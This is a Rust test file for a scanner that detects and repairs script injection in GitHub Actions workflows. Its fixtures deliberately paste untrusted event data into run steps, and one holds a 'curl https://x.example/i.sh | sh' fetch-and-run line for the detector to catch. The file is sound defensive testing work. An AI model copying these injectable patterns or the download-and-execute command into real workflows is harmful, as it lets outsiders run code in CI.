//! Audits together: taint by trigger, fixes, hostile input.

use super::*;
use crate::model::{Confidence, Fix, Severity};
use crate::scan::iac::{RuleBook, read_rules};
use proptest::prelude::*;

fn drafts(path: &str, text: &[u8]) -> Vec<Draft> {
    let mut rules = Vec::new();
    for file in [
        include_str!("../../../../rules/iac/github-actions/workflows.toml"),
        include_str!("../../../../rules/iac/github-actions/dependabot.toml"),
    ] {
        rules.extend(read_rules(file).unwrap());
    }
    let book = RuleBook::new(rules);
    let path = RepoPath::new(path);
    let mut sink = Sink::default();
    scan(&Input::whole(&path, text), &|| &book, &mut sink);
    sink.drafts
}

fn apply(text: &str, fix: &Fix) -> String {
    let mut mended = text.to_owned();
    for replacement in fix.replacements.iter().rev() {
        mended.replace_range(replacement.span.start as usize..replacement.span.end as usize, &replacement.text);
    }
    mended
}

const SAMPLE: &str = "name: x
on:
  pull_request_target:
  workflow_dispatch:
    inputs:
      who:
        type: string
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4 # code
      - name: Greet
        uses: actions/checkout@v4
        with:
          fetch-depth: 0
      - run: echo \"${{ github.event.pull_request.title }}\" ${{ github.head_ref }}
      - name: Again
        env:
          A: b
        run: |
          echo ${{ inputs.who }}
          echo ${{inputs.who}} 'x ${{ github.head_ref }}'
";

#[test]
fn a_fix_removes_its_finding_and_brings_no_other() {
    let path = ".github/workflows/ci.yml";
    let before = drafts(path, SAMPLE.as_bytes());
    let key = |draft: &Draft| (draft.rule.id.clone(), draft.anchor.clone());
    let mut fixed = 0;
    for draft in before.iter().filter(|draft| !draft.fixes.is_empty()) {
        let mended = apply(SAMPLE, &draft.fixes[0]);
        assert!(yaml::parse(mended.as_bytes()).errors.is_empty(), "{mended}");
        let after = drafts(path, mended.as_bytes());
        // A workflow-level `permissions` answers for jobs as well.
        assert!(after.iter().all(|other| key(other) != key(draft)), "{:?}\n{mended}", key(draft));
        assert!(after.iter().all(|other| before.iter().any(|one| key(one) == key(other))
            || other.rule.id.as_str().ends_with("undocumented-permissions")));
        fixed += 1;
    }
    assert!(fixed >= 5, "{fixed}");
    let quoted =
        before.iter().filter(|draft| draft.fixes.is_empty() && draft.rule.id.as_str().ends_with("template-injection"));
    assert_eq!(quoted.count(), 1, "inside single quotes a variable would not expand");
}

#[test]
fn severity_follows_who_decides_the_value() {
    let severity = |expression: &str| {
        let text = format!(
            "on:\n  issues:\n  workflow_dispatch:\n    inputs:\n      s: {{type: string}}\n      b: {{type: boolean}}\njobs:\n  a:\n    runs-on: x\n    strategy: {{matrix: {{k: [a]}}}}\n    steps:\n      - run: echo ${{{{ {expression} }}}}\n"
        );
        let drafts = drafts(".github/workflows/a.yml", text.as_bytes());
        drafts.into_iter().find(|draft| draft.message.contains("pasted")).map(|draft| draft.severity)
    };
    let table = [
        ("github.event.issue.title", Severity::High),
        ("github.event.issue.number", Severity::Info),
        ("github.ref_name", Severity::Medium),
        ("github.actor", Severity::Low),
        ("github.sha", Severity::Info),
        ("inputs.s", Severity::Medium),
        ("inputs.b", Severity::Info),
        ("matrix.k", Severity::Info),
        ("steps.a.outputs.b", Severity::Info),
        ("toJSON(github.event)", Severity::High),
        ("github.event['issue']['title']", Severity::High),
        ("github.event.issue.title == 'x'", Severity::Info),
        ("env.NOT_SET", Severity::Low),
    ];
    for (expression, expected) in table {
        assert_eq!(severity(expression), Some(expected), "{expression}");
    }
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let mut text = SAMPLE.as_bytes().to_vec();
        let at = bytes.len() * 2 % text.len();
        text.splice(at..at, bytes);
        for draft in drafts(".github/workflows/a.yml", &text) {
            prop_assert!(draft.span.end as usize <= text.len());
        }
    }
}

#[test]
fn an_alias_hides_no_expression() {
    let text = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      X: &run |\n        echo ${{ github.event.issue.title }}\n        curl https://x.example/i.sh | sh\n    steps:\n      - run: *run\n      - &step\n        run: echo \"${{ github.event.issue.body }}\"\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - *step\n";
    let drafts = drafts(".github/workflows/a.yml", text.as_bytes());
    let line = |draft: &Draft| text[..draft.span.start as usize].matches('\n').count() + 1;
    let of = |rule: &str| -> Vec<usize> {
        drafts.iter().filter(|draft| draft.rule.id.as_str().ends_with(rule)).map(line).collect()
    };
    assert_eq!(of("template-injection"), [10, 12, 16]);
    assert_eq!(of("pipe-to-shell"), [10]);
    let fixed = drafts.iter().filter(|draft| draft.rule.id.as_str().ends_with("template-injection"));
    // Only the step's own text may change; an alias shares its own.
    assert_eq!(fixed.map(|draft| draft.fixes.len()).collect::<Vec<_>>(), [0, 1, 0]);
}

#[test]
fn the_event_decides_how_free_a_context_is() {
    let of = |on: &str, expression: &str| {
        let text =
            format!("on: {on}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{{{ {expression} }}}}\n");
        let drafts = drafts(".github/workflows/a.yml", text.as_bytes());
        let found = drafts.into_iter().find(|draft| draft.message.contains("pasted")).expect("a finding");
        (found.severity, found.confidence)
    };
    let table = [
        ("pull_request_target", "github.head_ref", Severity::High, Confidence::High),
        ("pull_request_target", "github.ref_name", Severity::Medium, Confidence::High),
        ("push", "github.ref_name", Severity::Medium, Confidence::High),
        ("[push, workflow_call]", "github.ref_name", Severity::High, Confidence::High),
        ("push", "github.event.head_commit.message", Severity::High, Confidence::High),
        ("issue_comment", "github.event.comment.body", Severity::High, Confidence::High),
        ("workflow_run", "github.event.workflow_run.head_branch", Severity::High, Confidence::High),
        ("discussion", "github.event.discussion.title", Severity::High, Confidence::High),
        ("release", "github.event.release.tag_name", Severity::Medium, Confidence::High),
        ("repository_dispatch", "github.event.client_payload.x", Severity::Medium, Confidence::High),
        ("schedule", "github.event.issue.title", Severity::High, Confidence::Medium),
    ];
    for (on, expression, severity, confidence) in table {
        assert_eq!(of(on, expression), (severity, confidence), "{expression} on {on}");
    }
}

#[test]
fn repairs_of_shell_scripts() {
    let table: &[(&str, Option<&str>)] = &[
        ("echo '${{ inputs.who }}'", Some("echo \"${INPUTS_WHO}\"")),
        ("echo 'a ${{ inputs.who }}'", None),
        ("bash -c '${{ inputs.who }}'", None),
        ("'${{ inputs.who }}' x", None),
        ("jq . <<< '${{ toJSON(needs) }}'", Some("jq . <<< \"${TOJSON_NEEDS}\"")),
        ("echo a \\\n            ${{ inputs.who }}", Some("echo a \\\n            ${INPUTS_WHO}")),
        ("echo a\n          ${{ inputs.who }}", None),
        ("echo ${{ env.TAG }}", Some("echo ${TAG}")),
        ("echo ${{ env.my-tag }}", Some("echo ${MY_TAG}")),
        ("echo ${{ env.HOME }}", None),
        ("echo ${{ github['head_ref'] }}", Some("echo ${GITHUB_HEAD_REF}")),
    ];
    for (script, expected) in table {
        let text = format!(
            "on: pull_request\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {script}\n"
        );
        let found = drafts(".github/workflows/a.yml", text.as_bytes());
        let draft = found.iter().find(|draft| draft.message.contains("pasted")).expect("a finding");
        let mended = draft.fixes.first().map(|fix| apply(&text, fix));
        match expected {
            Some(_) if mended.is_none() => panic!("no repair: {text}"),
            None => assert!(mended.is_none(), "{mended:?}"),
            Some(expected) => {
                assert!(mended.as_ref().is_some_and(|text| text.contains(expected)), "{expected}: {mended:?}")
            }
        }
    }
}

#[test]
fn a_bot_is_asked_for_where_its_author_stands() {
    let table: &[(&str, &str, Option<&str>)] = &[
        ("pull_request_target", "github.actor == 'a[bot]'", Some("github.event.pull_request.user.login == 'a[bot]'")),
        (
            "[issues]",
            "\"${{ github.actor_id == 49699333 }}\"",
            Some("\"${{ github.event.issue.user.id == 49699333 }}\""),
        ),
        (
            "{issue_comment: {types: [created]}}",
            "github.triggering_actor == 'a[bot]' && x",
            Some("github.event.comment.user.login == 'a[bot]' && x"),
        ),
        // Which author is meant depends on the event, or there is none.
        ("[pull_request, issues]", "github.actor == 'a[bot]'", None),
        ("push", "github.actor == 'a[bot]'", None),
        // Two places, of which the finding is about one.
        ("pull_request", "github.actor == 'a[bot]' || github.actor == 'me'", None),
    ];
    for (on, condition, expected) in table {
        let text = format!("on: {on}\njobs:\n  a:\n    if: {condition}\n    runs-on: x\n    steps: []\n");
        let found = drafts(".github/workflows/a.yml", text.as_bytes());
        let told = found.iter().find(|draft| draft.rule.id.as_str() == "iac/actions-bot-conditions").expect(condition);
        let mended = told.fixes.first().map(|fix| apply(&text, fix));
        assert_eq!(mended, expected.map(|expected| text.replace(condition, expected)), "{on} {condition}");
        assert_eq!(told.severity == Severity::Low, *on == "push", "{on}");
    }
}
